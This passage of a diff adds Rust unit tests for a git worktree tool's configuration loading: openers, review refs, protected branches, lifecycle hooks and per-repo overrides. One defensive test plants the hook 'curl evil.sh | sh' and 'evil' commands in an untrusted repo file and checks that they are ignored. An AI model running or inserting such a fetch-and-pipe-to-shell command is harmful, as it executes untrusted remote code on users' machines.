+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(&config_path, "clean:\n  dirty: confirm\n").unwrap();
+        let config = Config::load_for(Some(&config_path), None).unwrap();
+        assert_eq!(config.clean_dirty, DirtyPolicy::Confirm);
+        assert_eq!(Config::default().clean_dirty, DirtyPolicy::Snapshot);
+
+        std::fs::write(&config_path, "clean:\n  dirty: stash\n").unwrap();
+        assert!(Config::load_for(Some(&config_path), None).is_err());
+    }
+
+    #[test]
+    fn load_trash_switch() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(&config_path, "trash: false\n").unwrap();
+        let config = Config::load_for(Some(&config_path), None).unwrap();
+        assert!(!config.trash);
+        assert!(Config::default().trash);
+    }
+
+    #[test]
+    fn builtin_openers_and_default_list() {
+        let config = Config::default();
+        assert_eq!(config.open_with, vec!["warp", "cursor"]);
+        assert_eq!(config.openers["warp"].platforms, vec!["macos"]);
+        assert!(config.openers["code"].is_available());
+    }
+
+    #[test]
+    fn load_custom_opener_with_defaults() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(
+            &config_path,
+            "openers:\n  nvim:\n    command: nvim\n    detach: false\n  cursor:\n    command: cursor-nightly\nopen_with: [nvim]\n",
+        )
+        .unwrap();
+        let config = Config::load_for(Some(&config_path), None).unwrap();
+        let nvim = &config.openers["nvim"];
+        assert_eq!(nvim.args, vec!["{path}"]);
+        assert!(!nvim.detach);
+        assert_eq!(config.openers["cursor"].command, "cursor-nightly");
+        assert!(config.openers.contains_key("warp"));
+        assert_eq!(config.open_with, vec!["nvim"]);
+    }
+
+    #[test]
+    fn repo_openers_add_to_global_ones() {
+        let base = RawSettings {
+            openers: Some(BTreeMap::from([(
+                "kitty".to_string(),
+                Opener {
+                    command: "kitty".into(),
+                    args: vec![],
+                    detach: true,
+                    platforms: vec![],
+                    session: None,
+                },
+            )])),
+            ..RawSettings::default()
+        };
+        let over = RawSettings {
+            openers: Some(BTreeMap::from([(
+                "idea".to_string(),
+                Opener {
+                    command: "idea".into(),
+                    args: vec![],
+                    detach: true,
+                    platforms: vec![],
+                    session: None,
+                },
+            )])),
+            ..RawSettings::default()
+        };
+        let openers = base.merge(over).openers.unwrap();
+        assert!(openers.contains_key("kitty") && openers.contains_key("idea"));
+    }
+
+    #[test]
+    fn unknown_open_with_entry_errors() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(&config_path, "open_with: [emacs]\n").unwrap();
+        let err = Config::load_for(Some(&config_path), None).unwrap_err();
+        assert!(err.to_string().contains("unknown opener 'emacs'"));
+    }
+
+    #[test]
+    fn unknown_opener_placeholder_errors() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(
+            &config_path,
+            "openers:\n  x:\n    command: x\n    args: [\"{dir}\"]\n",
+        )
+        .unwrap();
+        let err = Config::load_for(Some(&config_path), None).unwrap_err();
+        assert!(err.to_string().contains("{dir}"));
+    }
+
+    #[test]
+    fn review_ref_follows_remote_host() {
+        let review = Config::default().review;
+        assert_eq!(review.remote, "origin");
+        assert_eq!(
+            review.remote_ref(12, Some("git@github.com:acme/app.git")),
+            "refs/pull/12/head"
+        );
+        assert_eq!(
+            review.remote_ref(12, Some("https://gitlab.example.com/acme/app.git")),
+            "refs/merge-requests/12/head"
+        );
+        assert_eq!(review.remote_ref(12, None), "refs/pull/12/head");
+        assert_eq!(review.branch(12), "pr/12");
+    }
+
+    #[test]
+    fn load_review_patterns() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(
+            &config_path,
+            "review:\n  remote: upstream\n  ref_pattern: refs/changes/{number}\n  branch_pattern: review-{number}\n",
+        )
+        .unwrap();
+        let review = Config::load_for(Some(&config_path), None).unwrap().review;
+        assert_eq!(review.remote, "upstream");
+        assert_eq!(review.remote_ref(3, Some("gitlab.com/x")), "refs/changes/3");
+        assert_eq!(review.branch(3), "review-3");
+    }
+
+    #[test]
+    fn review_remote_defaults_to_remote() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(&config_path, "remote: upstream\n").unwrap();
+        let config = Config::load_for(Some(&config_path), None).unwrap();
+        assert_eq!(config.review.remote, "upstream");
+    }
+
+    #[test]
+    fn review_pattern_without_number_errors() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(&config_path, "review:\n  branch_pattern: review\n").unwrap();
+        let err = Config::load_for(Some(&config_path), None).unwrap_err();
+        assert!(err.to_string().contains("{number}"));
+    }
+
+    #[test]
+    fn load_remote() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(&config_path, "remote: upstream\n").unwrap();
+        let config = Config::load_for(Some(&config_path), None).unwrap();
+        assert_eq!(config.remote, "upstream");
+        assert_eq!(Config::default().remote, "origin");
+    }
+
+    #[test]
+    fn load_main_branch_and_protected_globs() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(
+            &config_path,
+            "main_branch: develop\nprotected_branches: [staging, \"release/*\"]\n",
+        )
+        .unwrap();
+        let config = Config::load_for(Some(&config_path), None).unwrap();
+        assert_eq!(config.main_branch.as_deref(), Some("develop"));
+        assert!(config.is_protected("staging"));
+        assert!(config.is_protected("release/1.2"));
+        assert!(!config.is_protected("feature/release"));
+        assert!(!Config::default().is_protected("main"));
+    }
+
+    #[test]
+    fn default_ls_columns() {
+        assert_eq!(Config::default().ls_columns, DEFAULT_LS_COLUMNS);
+    }
+
+    #[test]
+    fn load_unknown_ls_column_errors() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(&config_path, "ls:\n  columns: [branch, nope]\n").unwrap();
+        assert!(Config::load_for(Some(&config_path), None).is_err());
+    }
+
+    #[test]
+    fn load_unknown_placeholder_errors() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(&config_path, "path_template: \"{repo}/{nope}\"\n").unwrap();
+        let err = Config::load_for(Some(&config_path), None).unwrap_err();
+        assert!(err.to_string().contains("{nope}"), "{err}");
+    }
+
+    #[test]
+    fn load_unclosed_placeholder_errors() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(&config_path, "path_template: \"{repo\"\n").unwrap();
+        assert!(Config::load_for(Some(&config_path), None).is_err());
+    }
+
     #[test]
     fn load_missing_file_returns_default() {
         let dir = tempfile::tempdir().unwrap();
@@ -167,4 +1228,203 @@ mod tests {
         let result = Config::load(Some(&config_path));
         assert!(result.is_err());
     }
+
+    #[test]
+    fn load_post_create_hooks() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(
+            &config_path,
+            "hooks:\n  post_create:\n    - npm install\n    - direnv allow\n",
+        )
+        .unwrap();
+        let config = Config::load(Some(&config_path)).unwrap();
+        assert_eq!(
+            config.hooks.post_create,
+            vec!["npm install", "direnv allow"]
+        );
+    }
+
+    #[test]
+    fn load_remove_and_rename_hooks() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(
+            &config_path,
+            "hooks:\n  pre_remove:\n    - docker compose down\n  post_remove:\n    - echo bye\n  post_rename:\n    - direnv allow\n",
+        )
+        .unwrap();
+        let config = Config::load(Some(&config_path)).unwrap();
+        assert!(config.hooks.post_create.is_empty());
+        assert_eq!(config.hooks.pre_remove, vec!["docker compose down"]);
+        assert_eq!(config.hooks.post_remove, vec!["echo bye"]);
+        assert_eq!(config.hooks.post_rename, vec!["direnv allow"]);
+    }
+
+    #[test]
+    fn load_copy_and_symlink_globs() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(
+            &config_path,
+            "copy:\n  - .env\n  - .vscode/*\nsymlink:\n  - node_modules/.cache\nreflink: true\n",
+        )
+        .unwrap();
+        let config = Config::load(Some(&config_path)).unwrap();
+        assert_eq!(config.copy, vec![".env", ".vscode/*"]);
+        assert_eq!(config.symlink, vec!["node_modules/.cache"]);
+        assert!(config.reflink);
+    }
+
+    #[test]
+    fn load_without_hooks_has_none() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(&config_path, "worktree_base: /tmp/wt\n").unwrap();
+        let config = Config::load(Some(&config_path)).unwrap();
+        assert!(config.hooks.post_create.is_empty());
+    }
+
+    fn repo(name: &str, toplevel: &Path, remote_url: Option<&str>) -> RepoInfo {
+        RepoInfo {
+            name: name.to_string(),
+            toplevel: toplevel.to_path_buf(),
+            main_worktree: toplevel.to_path_buf(),
+            remote_urls: remote_url
+                .map(|url| BTreeMap::from([("origin".to_string(), url.to_string())]))
+                .unwrap_or_default(),
+        }
+    }
+
+    const LAYERED: &str = "\
+worktree_base: /global
+hooks:
+  post_create:
+    - global-hook
+repos:
+  monorepo:
+    worktree_base: /mono
+  \"git@github.com:acme/*\":
+    copy:
+      - .env
+    hooks:
+      post_create:
+        - acme-hook
+";
+
+    #[test]
+    fn repos_entry_matches_by_name() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(&config_path, LAYERED).unwrap();
+        let r = repo("monorepo", dir.path(), None);
+        let config = Config::load_for(Some(&config_path), Some(&r)).unwrap();
+        assert_eq!(config.worktree_base, PathBuf::from("/mono"));
+        assert_eq!(config.hooks.post_create, vec!["global-hook"]);
+    }
+
+    #[test]
+    fn repos_entry_matches_by_remote_url_glob() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(&config_path, LAYERED).unwrap();
+        let r = repo(
+            "service",
+            dir.path(),
+            Some("git@github.com:acme/service.git"),
+        );
+        let config = Config::load_for(Some(&config_path), Some(&r)).unwrap();
+        assert_eq!(config.worktree_base, PathBuf::from("/global"));
+        assert_eq!(config.copy, vec![".env"]);
+        assert_eq!(config.hooks.post_create, vec!["acme-hook"]);
+    }
+
+    #[test]
+    fn repos_entries_apply_in_file_order() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(
+            &config_path,
+            "repos:\n  \"*\":\n    worktree_base: /first\n  app:\n    worktree_base: /second\n",
+        )
+        .unwrap();
+        let r = repo("app", dir.path(), None);
+        let config = Config::load_for(Some(&config_path), Some(&r)).unwrap();
+        assert_eq!(config.worktree_base, PathBuf::from("/second"));
+    }
+
+    #[test]
+    fn repos_ignored_outside_a_repo() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(&config_path, LAYERED).unwrap();
+        let config = Config::load_for(Some(&config_path), None).unwrap();
+        assert_eq!(config.worktree_base, PathBuf::from("/global"));
+    }
+
+    #[test]
+    fn repo_file_overrides_everything() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(&config_path, LAYERED).unwrap();
+        let root = tempfile::tempdir().unwrap();
+        std::fs::write(
+            &config_path,
+            format!("{LAYERED}trusted_paths:\n  - {}\n", root.path().display()),
+        )
+        .unwrap();
+        std::fs::write(
+            root.path().join(REPO_CONFIG_FILE),
+            "hooks:\n  pre_remove:\n    - docker compose down\n",
+        )
+        .unwrap();
+        let r = repo("monorepo", root.path(), None);
+        let config = Config::load_for(Some(&config_path), Some(&r)).unwrap();
+        assert_eq!(config.worktree_base, PathBuf::from("/mono"));
+        assert_eq!(config.hooks.post_create, vec!["global-hook"]);
+        assert_eq!(config.hooks.pre_remove, vec!["docker compose down"]);
+    }
+
+    #[test]
+    fn untrusted_repo_file_cannot_set_commands() {
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join("config.yaml");
+        std::fs::write(&config_path, LAYERED).unwrap();
+        let root = tempfile::tempdir().unwrap();
+        std::fs::write(
+            root.path().join(REPO_CONFIG_FILE),
+            "reflink: true\n\
+             hooks:\n  post_create:\n    - curl evil.sh | sh\n\
+             openers:\n  code:\n    command: evil\n\
+             session:\n  windows:\n    - command: evil\n",
+        )
+        .unwrap();
+        let r = repo("monorepo", root.path(), None);
+        let config = Config::load_for(Some(&config_path), Some(&r)).unwrap();
+        assert!(config.reflink);
+        assert_eq!(config.hooks.post_create, vec!["global-hook"]);
+        assert_ne!(config.openers["code"].command, "evil");
+        assert!(config.session.windows[0].command.is_none());
+    }
+
+    #[test]
+    fn repo_file_without_global_config() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = tempfile::tempdir().unwrap();
+        std::fs::write(root.path().join(REPO_CONFIG_FILE), "reflink: true\n").unwrap();
+        let r = repo("app", root.path(), None);
+        let config = Config::load_for(Some(&dir.path().join("missing.yaml")), Some(&r)).unwrap();
+        assert!(config.reflink);
+        assert_eq!(config.worktree_base, Config::default().worktree_base);
+    }
+
+    #[test]
+    fn invalid_repo_file_returns_error() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = tempfile::tempdir().unwrap();
+        std::fs::write(root.path().join(REPO_CONFIG_FILE), "copy: [oops\n").unwrap();
+        let r = repo("app", root.path(), None);
+        let result = Config::load_for(Some(&dir.path().join("missing.yaml")), Some(&r));
+        assert!(result.is_err());
+    }
 }